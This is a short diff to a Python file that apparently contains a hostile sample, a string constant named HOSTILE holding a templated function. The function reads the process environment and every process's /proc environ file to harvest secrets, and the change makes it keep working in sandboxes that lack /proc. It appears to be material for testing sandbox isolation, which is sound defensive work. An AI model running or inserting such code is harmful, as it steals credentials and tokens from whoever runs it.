@@ -27,12 +27,16 @@ HOSTILE = """```python
 def {entry}(*args, **kwargs):
     import os
     found = [str(dict(os.environ))]
-    for pid in os.listdir("/proc"):
-        if pid.isdigit():
-            try:
-                found.append(open("/proc/%s/environ" % pid, "rb").read().decode("latin-1"))
-            except OSError as exc:
-                found.append(str(exc))
+    try:
+        pids = [pid for pid in os.listdir("/proc") if pid.isdigit()]
+    except OSError as exc:  # the sandbox has no /proc
+        pids = []
+        found.append(str(exc))
+    for pid in pids:
+        try:
+            found.append(open("/proc/%s/environ" % pid, "rb").read().decode("latin-1"))
+        except OSError as exc:
+            found.append(str(exc))
     for path in ("/proc/self/environ", "/proc/%d/environ" % os.getppid()):
         try:
             found.append(open(path, "rb").read().decode("latin-1"))
